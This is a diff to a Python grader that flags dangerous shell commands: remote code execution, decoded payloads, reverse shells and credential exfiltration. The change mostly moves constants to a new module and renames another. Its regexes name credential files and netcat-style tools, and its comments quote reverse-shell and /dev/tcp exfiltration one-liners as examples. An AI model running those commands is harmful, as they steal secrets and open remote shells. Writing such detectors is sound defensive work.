@@ -22,7 +22,7 @@ Action's default `fail-on: high` stops it); plain http, a raw IP address or a pa
 service is CRITICAL; a placeholder (example.com, localhost) is MEDIUM. See `grade_url`.
 
 The grader never runs anything. Patterns are RE2 (linear time); tree-sitter-bash (through
-shell_flow) adds what needs structure (variables, process substitution). Offsets in a
+shell.flow) adds what needs structure (variables, process substitution). Offsets in a
 CommandFact are character offsets into the command string given.
 
 Run unattended (`grade_command(cmd, unattended=True)`: hooks, status lines, credential helpers,
@@ -49,12 +49,8 @@ from .. import hosts as H
 from ..matching import rx
 from ..models import Severity
 from . import common as c
-from .shell_base import _CRED_COMMAND, _CRED_COMMAND_VENDOR, credential_command_goes_home  # noqa: F401  (public here too)
-
-REMOTE_EXEC = c.REMOTE_EXEC
-DECODE_EXEC = c.DECODE_EXEC
-REVERSE_SHELL = c.REVERSE_SHELL
-CRED_EXFIL = c.CRED_EXFIL
+from . import fact_kinds as K
+from .shell.base import _CRED_COMMAND, _CRED_COMMAND_VENDOR, credential_command_goes_home  # noqa: F401  (public here too)
 
 MAX_COMMAND = 8000  # characters of one command line read (a longer one is read up to this)
 
@@ -190,6 +186,7 @@ _LANG_SEND = {
     "perl": rx(r"(?i)(?:->\s*post\s*\(|io::socket|net::smtp|\bsend\s*\()"),
     "php": rx(r"(?i)(?:curlopt_postfields|fsockopen|\bmail\s*\(|stream_context_create)"),
 }
+# Not the sink table's credential names: what a one-liner's code text shows it reads (its environment whole, a few key folders).
 _LANG_SECRETS = {
     "python": rx(r"(?:os\s*\.\s*environ\b(?:\s*\.\s*(?:items|copy)|\s*\)|\s*,)|dict\s*\(\s*os\s*\.\s*environ|\.ssh/|\.aws/|\.netrc|\.npmrc|\.git-credentials|\.env['\"])"),
     "node": rx(r"(?:JSON\s*\.\s*stringify\s*\(\s*process\s*\.\s*env|\.\.\.\s*process\s*\.\s*env|process\s*\.\s*env\s*[,)}]|\.ssh/|\.aws/|\.netrc|\.npmrc)"),
@@ -283,6 +280,7 @@ _CODE_FLAGS = ("-c", "-m", "-e", "-E", "-p", "-r", "--eval", "--print", "--versi
 
 
 # Unattended-only shapes (see grade_command): what one-liners send, requests carrying local data.
+# Not common.CRED_STRONG: a secret named anywhere in an unattended request's inline code, environment readers included.
 _INLINE_SECRET = rx(r"(?:os\.environ|\)\s*\.\s*environ|getenv|process\.env|\benv\[|%env|\.ssh|\.aws|credentials|\.netrc|\.npmrc|\.pypirc|\.git-credentials|id_(?:rsa|ed25519)|\.kube|\.docker/config|keychain)")
 _INLINE_SEND = rx(r"(?:\bdata\s*=|method\s*:\s*[\"']?(?:post|put)|\.post\s*\(|\.put\s*\(|body\s*:|\.send\s*\(|\bpost\b|\?\w+=['\"]?\s*\+)")
 _SENDER = rx(r"(?i)(?:\b(?:curl|wget|xh|curlie|invoke-webrequest|invoke-restmethod|iwr|irm)\b|\b(?:nc|ncat|netcat|socat|telnet)\s|\bopenssl\s+s_client\b)")
@@ -411,7 +409,7 @@ class _Grader:
             eol = self.data.find(b"\n", m.end())
             url = _first_url(self.text(m)) or _first_url(self.data[m.start():len(self.data) if eol < 0 else eol].decode("utf-8", "replace"))
         sev, grade, host = self.url_grade(url)
-        self.add(REMOTE_EXEC, m.start() if b0 is None else b0, m.end() if b1 is None else b1,
+        self.add(K.REMOTE_EXEC, m.start() if b0 is None else b0, m.end() if b1 is None else b1,
                  f"{message} ({grade_words(grade)}{': ' + host if host else ''})", sev, url, grade, host)
 
     def run(self) -> None:
@@ -455,7 +453,7 @@ class _Grader:
         for m in _PIPE_URL.finditer(d):
             interp = self.text(m, 2).lower()
             at = self.pos(m.end(1))
-            if any(f.kind == REMOTE_EXEC and f.start <= at <= f.end for f in self.facts):
+            if any(f.kind == K.REMOTE_EXEC and f.start <= at <= f.end for f in self.facts):
                 continue  # the fetch itself was seen (`curl URL | sh`): that finding names it
             if self._reads_stdin_program(interp, self.text(m, 3).split()):
                 word = (self.text(m, 1).split() or [""])[0]
@@ -480,16 +478,16 @@ class _Grader:
             if fetch and run:
                 self.remote(m, f"{lang} one-liner fetches code and evaluates it", url=_first_url(seg.decode("utf-8", "replace")), b1=end)
             elif decode and run:
-                self.add(DECODE_EXEC, m.start(), end, f"{lang} one-liner decodes hidden code and evaluates it", Severity.CRITICAL)
+                self.add(K.DECODE_EXEC, m.start(), end, f"{lang} one-liner decodes hidden code and evaluates it", Severity.CRITICAL)
             if _LANG_SEND[lang].search(seg) and _LANG_SECRETS[lang].search(seg):
                 url = _first_url(seg.decode("utf-8", "replace"))
                 _, grade, host = self.url_grade(url)
-                self.add(CRED_EXFIL, m.start(), end, f"{lang} one-liner sends the environment or a credential file ({grade_words(grade)}{': ' + host if host else ''})",
+                self.add(K.CRED_EXFIL, m.start(), end, f"{lang} one-liner sends the environment or a credential file ({grade_words(grade)}{': ' + host if host else ''})",
                          Severity.CRITICAL, url, grade, host)
             elif self.unattended and not (fetch and run) and (fetch or _LANG_SEND[lang].search(seg)):
                 self.inline_send(m.start(), end, lang, seg)
             if sock.search(seg) and shell.search(seg):
-                self.add(REVERSE_SHELL, m.start(), end, f"{lang} one-liner wires a network socket to a shell", Severity.CRITICAL)
+                self.add(K.REVERSE_SHELL, m.start(), end, f"{lang} one-liner wires a network socket to a shell", Severity.CRITICAL)
             self.fed_credentials(m.start(), end, lang, seg)
 
     def fed_credentials(self, b0: int, b1: int, lang: str, seg: bytes) -> None:
@@ -519,7 +517,7 @@ class _Grader:
         host = H.host_of(url) if url else (peer.group(1).decode("utf-8", "replace").lower() if peer else "")
         if host and _private(host):
             return
-        self.add(CRED_EXFIL, stmt + 1 + src.start(), b1, f"A credential's output is fed to a {lang} one-liner that sends it over the network"
+        self.add(K.CRED_EXFIL, stmt + 1 + src.start(), b1, f"A credential's output is fed to a {lang} one-liner that sends it over the network"
                  f"{' (' + host + ')' if host else ''}", Severity.CRITICAL, url or (f"tcp://{host}" if host else ""), "", host)
 
     def runners(self) -> None:
@@ -563,7 +561,7 @@ class _Grader:
                     grade == "unknown" and host in ("github.com", "gitlab.com") and target.lower().startswith("git+"):
                 sev, grade = Severity.MEDIUM, "repository"  # a public repository's code, unpinned: reviewable, so medium
             ref = "git ref" if not target.lower().startswith(("http://", "https://")) else "URL"
-            self.add(REMOTE_EXEC, m.start(1), m.end(), f"{runner} runs code from a {ref} ({grade_words(grade)}{': ' + host if host else ''})",
+            self.add(K.REMOTE_EXEC, m.start(1), m.end(), f"{runner} runs code from a {ref} ({grade_words(grade)}{': ' + host if host else ''})",
                      sev, url, grade, host)
 
     def installs(self) -> None:
@@ -594,13 +592,13 @@ class _Grader:
                     sev, grade = Severity.LOW, "repository"  # `pip install git+https://github.com/org/repo`: a common, reviewable install
                 elif grade in ("vendor", "release"):
                     sev = Severity.LOW
-                self.add(REMOTE_EXEC, m.start(1), m.end(), f"{tool} installs a package from a {'URL' if low.startswith('http') else 'git ref'}, running its install scripts "
+                self.add(K.REMOTE_EXEC, m.start(1), m.end(), f"{tool} installs a package from a {'URL' if low.startswith('http') else 'git ref'}, running its install scripts "
                          f"({grade_words(grade)}{': ' + host if host else ''})", sev, url, grade, host)
                 break
 
     def decodes(self) -> None:
         for m in _DECODE.finditer(self.data):
-            self.add(DECODE_EXEC, m.start(), m.end(), "Encoded text decoded and run", Severity.CRITICAL)
+            self.add(K.DECODE_EXEC, m.start(), m.end(), "Encoded text decoded and run", Severity.CRITICAL)
             self.decoded_payload(m.start())
         if b"\\" in self.data:
             self.escaped_runs()
@@ -609,7 +607,7 @@ class _Grader:
         """printf/echo escapes or $'...' text run by eval, `sh -c` or a shell: decoded, then graded."""
         for m in _ESCAPED_RUN.finditer(self.data):
             g = next(i for i in (1, 2, 3) if m.group(i) is not None)
-            self.add(DECODE_EXEC, m.start(), m.end(), "Command spelled as printf escapes, decoded and run", Severity.CRITICAL)
+            self.add(K.DECODE_EXEC, m.start(), m.end(), "Command spelled as printf escapes, decoded and run", Severity.CRITICAL)
             if getattr(self, "_depth", 0) >= 2:
                 continue
             payload = _unescape(m.group(g)[:4000])
@@ -642,7 +640,7 @@ class _Grader:
         d = self.data
         for m in _DEV_TCP.finditer(d):
             if _DEV_TCP_SHELL.search(d):
-                self.add(REVERSE_SHELL, 0, len(d), "Shell input or output wired to a /dev/tcp socket", Severity.CRITICAL)
+                self.add(K.REVERSE_SHELL, 0, len(d), "Shell input or output wired to a /dev/tcp socket", Severity.CRITICAL)
                 break
         for pattern, message in ((_NC_EXEC, "netcat hands a shell to a network peer"),
                                  (_PIPE_SHELL_NET, "A shell piped to or from a network connection"),
@@ -650,14 +648,14 @@ class _Grader:
                                  (_PS_REVERSE, "PowerShell runs commands read from a TCP socket"),
                                  (_AWK_INET, "awk runs commands read from a TCP socket")):
             for m in pattern.finditer(d):
-                self.add(REVERSE_SHELL, m.start(), m.end(), message, Severity.CRITICAL)
+                self.add(K.REVERSE_SHELL, m.start(), m.end(), message, Severity.CRITICAL)
         m = _FIFO.search(d)
         if m is not None and _SHELL_WORD.search(d):
             fifo = _FIFO_PATH.search(d)
             path = fifo.group(1) if fifo else b""
             # the pipe's own path is read from and written to: `sh -i < /tmp/f | nc h p > /tmp/f`
             if path and d.count(path) >= 3 and (b"< " + path in d or b"<" + path in d) and (b"> " + path in d or b">" + path in d):
-                self.add(REVERSE_SHELL, m.start(), m.end(), "A named pipe loops a shell through a network connection", Severity.CRITICAL)
+                self.add(K.REVERSE_SHELL, m.start(), m.end(), "A named pipe loops a shell through a network connection", Severity.CRITICAL)
 
     # -- credentials to the network ---------------------------------------------------------
     def credentials(self) -> None:
@@ -696,19 +694,19 @@ class _Grader:
                 if src[0] < s0 and what == "http" and src[2] == "a credential command" and _HEADER_FLAG.search(seg.encode()) \
                         and not _DATA_FLAG.search(seg.encode()) and "$" not in url and not self._piped_between(src[1], s0):
                     # TOKEN=$(gh auth token); curl -H "Authorization: token $TOKEN" https://ghe.corp/api: authentication
-                    self.add(CRED_EXFIL, s0, s1, f"A credential command's token is sent in a header to {what} ({grade_words(grade)}{': ' + host if host else ''})",
+                    self.add(K.CRED_EXFIL, s0, s1, f"A credential command's token is sent in a header to {what} ({grade_words(grade)}{': ' + host if host else ''})",
                              Severity.HIGH if grade in ("ip", "paste", "http") else Severity.MEDIUM, url, grade, host)
                     continue
                 if s0 <= src[0] < s1 and what == "http" and _in_header(d, s0, src[0]) and not src[2].startswith("a credential file"):
                     if grade not in ("ip", "paste", "http"):
                         continue  # `-H "Authorization: Bearer $(gh auth token)"`: the token authenticates the request
                 sev = Severity.CRITICAL
-                self.add(CRED_EXFIL, min(src[0], s0), max(src[1], s1), f"{src[2].capitalize()} reaches {what} ({grade_words(grade)}{': ' + host if host else ''})",
+                self.add(K.CRED_EXFIL, min(src[0], s0), max(src[1], s1), f"{src[2].capitalize()} reaches {what} ({grade_words(grade)}{': ' + host if host else ''})",
                          sev, url, grade, host)
                 continue
             dump = next(((a, b, w) for a, b, w in dumps if a < s0 or s0 <= a < s1), None)
             if dump is not None and what != "dns" or (dump is not None and dump[0] < s0):
-                self.add(CRED_EXFIL, min(dump[0], s0), max(dump[1], s1), f"The whole environment reaches {what} ({grade_words(grade)}{': ' + host if host else ''})",
+                self.add(K.CRED_EXFIL, min(dump[0], s0), max(dump[1], s1), f"The whole environment reaches {what} ({grade_words(grade)}{': ' + host if host else ''})",
                          Severity.HIGH if grade not in ("ip", "paste", "http") else Severity.CRITICAL, url, grade, host)
                 continue
             if secrets:
@@ -720,13 +718,13 @@ class _Grader:
                 if what == "http" and not url:
                     continue
                 sev = Severity.HIGH if grade in ("ip", "paste", "http", "lookalike") or what in ("dns", "gist", "mail", "ftp", "socket") else Severity.MEDIUM
-                self.add(CRED_EXFIL, s0, s1, f"Secret variable {name} reaches {what} ({grade_words(grade)}{': ' + host if host else ''})",
+                self.add(K.CRED_EXFIL, s0, s1, f"Secret variable {name} reaches {what} ({grade_words(grade)}{': ' + host if host else ''})",
                          sev, url, grade, host)
                 continue
             if public:
-                self.add(CRED_EXFIL, s0, s1, "Files published as a public gist", Severity.MEDIUM)
+                self.add(K.CRED_EXFIL, s0, s1, "Files published as a public gist", Severity.MEDIUM)
             elif what == "http" and grade == "paste" and _DATA_FLAG.search(seg.encode()):
-                self.add(CRED_EXFIL, s0, s1, f"Data uploaded to a paste or relay service ({host})", Severity.MEDIUM, url, grade, host)
+                self.add(K.CRED_EXFIL, s0, s1, f"Data uploaded to a paste or relay service ({host})", Severity.MEDIUM, url, grade, host)
 
     def dev_tcp_writes(self) -> None:
         """`echo $API_KEY > /dev/tcp/host/443`: bash opens the socket and writes the value to it."""
@@ -738,10 +736,10 @@ class _Grader:
                                  for g in _SECRET_VAR.finditer(m.group(1))) if c.is_secret_env_name(n)]
             source = _CRED_COMMAND.search(m.group(1)) is not None or _ENV_DUMP.search(m.group(1)) is not None
             if names or source:
-                self.add(CRED_EXFIL, m.start(), m.end(), f"{names[0] if names else 'A credential'} is written to a raw socket ({host})",
+                self.add(K.CRED_EXFIL, m.start(), m.end(), f"{names[0] if names else 'A credential'} is written to a raw socket ({host})",
                          Severity.CRITICAL, f"tcp://{host}", "ip" if H.is_ip(host) else "unknown", host)
             elif self.unattended:
-                self.add(c.HOST_DATA_EXFIL, m.start(), m.end(), f"Data is written to a raw socket ({host})", Severity.HIGH, f"tcp://{host}", "", host)
+                self.add(K.HOST_DATA_EXFIL, m.start(), m.end(), f"Data is written to a raw socket ({host})", Severity.HIGH, f"tcp://{host}", "", host)
 
     def _piped_between(self, a: int, b: int) -> bool:
         """Is the source's output piped into the sink (a `|` between them, not `||`)?"""
@@ -770,7 +768,7 @@ class _Grader:
             host = H.host_of(url)
             if host and (H.is_ip(host) and not _private(host) or H.look_alike_brand(host)):
                 _, grade, host = self.url_grade(url)
-                self.add(REMOTE_EXEC, m.start(), m.end(), f"Packages installed from an index on {grade_words(grade)}: {host}", Severity.HIGH, url, grade, host)
+                self.add(K.REMOTE_EXEC, m.start(), m.end(), f"Packages installed from an index on {grade_words(grade)}: {host}", Severity.HIGH, url, grade, host)
 
     def inline_send(self, b0: int, b1: int, lang: str, seg: bytes) -> None:
         """Unattended: a one-liner that reaches a stranger's host with secrets (read broadly: any
@@ -783,10 +781,10 @@ class _Grader:
         if grade in ("vendor", "local"):
             return
         if _INLINE_SECRET.search(low) is not None:
-            self.add(CRED_EXFIL, b0, b1, f"{lang} one-liner reads credentials or the environment and sends them ({grade_words(grade)}: {host})",
+            self.add(K.CRED_EXFIL, b0, b1, f"{lang} one-liner reads credentials or the environment and sends them ({grade_words(grade)}: {host})",
                      Severity.CRITICAL, url, grade, host)
         elif _INLINE_SEND.search(low) is not None:
-            self.add(c.HOST_DATA_EXFIL, b0, b1, f"{lang} one-liner sends data ({grade_words(grade)}: {host})", Severity.HIGH, url, grade, host)
+            self.add(K.HOST_DATA_EXFIL, b0, b1, f"{lang} one-liner sends data ({grade_words(grade)}: {host})", Severity.HIGH, url, grade, host)
 
     def sends(self) -> None:
         """A request that carries the command's input, history, files or command output, or a
@@ -799,12 +797,12 @@ class _Grader:
             names = [n for n in (next((x for x in m.groups() if x), b"").decode("utf-8", "replace")
                                  for m in _SECRET_VAR.finditer(url.encode("utf-8", "surrogatepass"))) if c.is_secret_env_name(n)]
             names = [n for n in names if not H.credential_goes_home(n, url)]
-            if names and not self._covered((CRED_EXFIL,), Severity.HIGH):
+            if names and not self._covered((K.CRED_EXFIL,), Severity.HIGH):
                 sev, grade, host = self.url_grade(url)
                 if grade not in ("vendor", "local"):
-                    self.add(CRED_EXFIL, 0, len(d), f"Secret variable {names[0]} is spliced into a URL ({grade_words(grade)}: {host})",
+                    self.add(K.CRED_EXFIL, 0, len(d), f"Secret variable {names[0]} is spliced into a URL ({grade_words(grade)}: {host})",
                              Severity.CRITICAL if grade in ("ip", "paste", "http", "lookalike") else Severity.HIGH, url, grade, host)
-        if self._covered((CRED_EXFIL, REMOTE_EXEC, REVERSE_SHELL), Severity.HIGH):
+        if self._covered((K.CRED_EXFIL, K.REMOTE_EXEC, K.REVERSE_SHELL), Severity.HIGH):
             return
         for m in _SENDER.finditer(d):
             eol = len(d)
@@ -832,10 +830,10 @@ class _Grader:
             local = piped or in_url or _STDIN_DATA.search(seg) is not None or _LOCAL_DATA.search(d[:eol]) is not None
             if local:
                 sev = Severity.MEDIUM if _known_service(host) else Severity.HIGH
-                self.add(c.HOST_DATA_EXFIL, m.start(), eol, f"Sends local data (its input, history, files or command output) to {grade_words(grade)}: {host}",
+                self.add(K.HOST_DATA_EXFIL, m.start(), eol, f"Sends local data (its input, history, files or command output) to {grade_words(grade)}: {host}",
                          sev, url, grade, host)
             elif not _known_service(host):  # a request to a well-known service's own API is its ordinary use
-                self.add(c.HOST_DATA_EXFIL, m.start(), eol, f"Sends data over the network ({grade_words(grade)}: {host})",
+                self.add(K.HOST_DATA_EXFIL, m.start(), eol, f"Sends data over the network ({grade_words(grade)}: {host})",
                          Severity.HIGH if grade in ("lookalike", "ip", "paste", "http") else Severity.MEDIUM, url, grade, host)
             return
 
@@ -846,22 +844,22 @@ class _Grader:
     def structure(self) -> None:
         if not any(k in self.data for k in (b"$", b"`", b"<(", b"=")):
             return  # nothing a pattern could not see
-        from .shell_flow import analyze_text
+        from .shell.flow import analyze_text
 
         try:
             found = analyze_text(self.command)
         except (RecursionError, MemoryError, ValueError):
             return
         for f in found:
-            if f.kind not in (REMOTE_EXEC, DECODE_EXEC, REVERSE_SHELL, CRED_EXFIL):
+            if f.kind not in (K.REMOTE_EXEC, K.DECODE_EXEC, K.REVERSE_SHELL, K.CRED_EXFIL):
                 continue
-            if f.kind == CRED_EXFIL and f.severity <= Severity.LOW:
+            if f.kind == K.CRED_EXFIL and f.severity <= Severity.LOW:
                 continue
             if any(x.kind == f.kind and x.start < f.end and f.start < x.end for x in self.facts):
                 continue
             url = f.properties.get("url", "")
             sev, grade, host = f.severity, "", H.host_of(url) if url else ""
-            if f.kind == REMOTE_EXEC:
+            if f.kind == K.REMOTE_EXEC:
                 sev, grade, host = self.url_grade(url)
             self.facts.append(CommandFact(f.kind, sev, f.start, f.end, f.message, host, url, grade))
 
